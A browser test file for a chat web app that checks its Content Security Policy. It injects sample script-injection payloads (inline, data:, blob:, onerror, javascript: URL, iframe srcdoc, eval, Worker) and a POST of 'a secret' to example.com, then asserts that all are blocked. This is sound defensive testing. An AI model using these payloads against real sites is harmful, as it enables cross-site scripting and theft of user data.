"""The security policy of the page, in Chromium: the page works under it, and injected scripts do not run."""

import pytest
from playwright.async_api import expect

from tests.browser import gradio_dom

pytestmark = pytest.mark.browser
in_browser = pytest.mark.asyncio(loop_scope="session")

CODE_TOKENS = "code [class^=hljs]"
DIAGRAM = "img.diagram"
EVERYTHING = """# A heading

```python
print("code")
```

$$x^2$$ and \\(y\\)

| a | b |
|---|---|
| 1 | 2 |

```mermaid
graph TD
  A --> B
```
"""
# What a script would do that came in; ``eval`` is tried later, as Playwright itself may.
INJECTED = """async () => {
  window.ran = [];
  const script = (attributes) => document.head.append(Object.assign(document.createElement("script"), attributes));
  script({ textContent: "ran.push('inline')" });
  script({ src: "data:text/javascript,ran.push('data')" });
  script({ src: URL.createObjectURL(new Blob(["ran.push('blob')"], { type: "text/javascript" })) });
  const holder = document.createElement("div");
  document.body.append(holder);
  holder.innerHTML = `<img src="data:," onerror="ran.push('handler')">
    <a id="led" href="javascript:ran.push('url')">x</a>
    <iframe srcdoc="<script>parent.ran.push('frame')</` + `script>"></iframe>`;
  holder.querySelector("#led").click();
  await new Promise((resolve) => setTimeout(resolve, 300));
  for (const attempt of [
    () => eval("ran.push('eval')"),
    () => Function("ran.push('Function')")(),
    () => setTimeout("ran.push('timer')"),
    () => new Worker(URL.createObjectURL(new Blob(["1"]))).addEventListener("message", () => ran.push("worker")),
  ]) {
    try {
      attempt();
    } catch {}
  }
  await new Promise((resolve) => setTimeout(resolve, 300));
  const sent = await fetch("https://example.com/", { method: "POST", body: "a secret", mode: "no-cors" })
    .then(() => "sent", () => "not sent");
  holder.remove();
  return [...ran, sent];
}"""


@in_browser
async def test_the_page_does_not_violate_its_security_policy(page, gemma):
    """What Chromium refuses is a line of its console, which fails the test: see `chat_page.ChatPage`."""
    gemma.answer = [EVERYTHING]
    await page.ask("Show me everything")
    await expect(page.answers.locator(CODE_TOKENS).first).to_be_visible()
    await expect(page.answers.locator(gradio_dom.MATHEMATICS).first).to_be_visible()
    await expect(page.answers.locator(DIAGRAM)).to_be_visible()
    await page.tab.locator("#tools").get_by_role("button", name="Answer settings").click()
    await page.tab.locator("#temperature input[type=number]").fill("0.3")
    await page.tab.locator("#persona").click()
    await page.reload()
    await expect(page.answers.locator(DIAGRAM)).to_be_visible()
    assert page.problems == []


@in_browser
async def test_injected_scripts_do_not_run_and_send_nothing(new_chat):
    assert await new_chat.tab.evaluate(INJECTED) == ["not sent"]
    assert len(new_chat.problems) >= 5  # each refused
    new_chat.problems.clear()


@in_browser
async def test_no_other_page_can_hold_the_chat_in_a_frame(chromium, chat):
    tab = await chromium.new_page()
    try:
        await tab.set_content(f'<iframe src="{chat.url}"></iframe>')
        frame = await (await tab.query_selector("iframe")).content_frame()
        await frame.wait_for_load_state()
        assert await frame.query_selector(gradio_dom.APP) is None
    finally:
        await tab.close()


# The addresses that a picture in an answer could name, and what became of each: an event of the policy, or an answer.
PICTURES = """async (addresses) => {
  const blocked = [];
  document.addEventListener("securitypolicyviolation", ({ blockedURI }) => blocked.push(blockedURI));
  for (const src of addresses)
    await new Promise((onload) => Object.assign(new Image(), { src, onload, onerror: onload }));
  await new Promise((resolve) => setTimeout(resolve, 300));
  return blocked.map((address) => address.slice(location.origin.length));
}"""
NOT_FOR_PICTURES = [
    *("/state", "/me", "/search?q=x", "/export/everything.json", "/sign-in/start", "/?gcp-iap-mode=CLEAR_LOGIN_COOKIE"),
    *("/c/x", "/healthz"),
]


@in_browser
async def test_a_picture_requests_no_address_of_the_chat_but_pictures(new_chat):
    statuses = {}

    def note(response):
        statuses[response.url] = response.status

    new_chat.tab.on("response", note)
    allowed = ["/conversations/x/events", "/conversations/x/images/y"]
    assert await new_chat.tab.evaluate(PICTURES, [*NOT_FOR_PICTURES, *allowed]) == NOT_FOR_PICTURES
    new_chat.tab.remove_listener("response", note)
    found = {path: [status for url, status in statuses.items() if url.endswith(path)] for path in allowed}
    assert list(found.values()) == [[403], [404]]
    assert not [address for address in statuses if address.endswith(tuple(NOT_FOR_PICTURES))]
    new_chat.problems.clear()
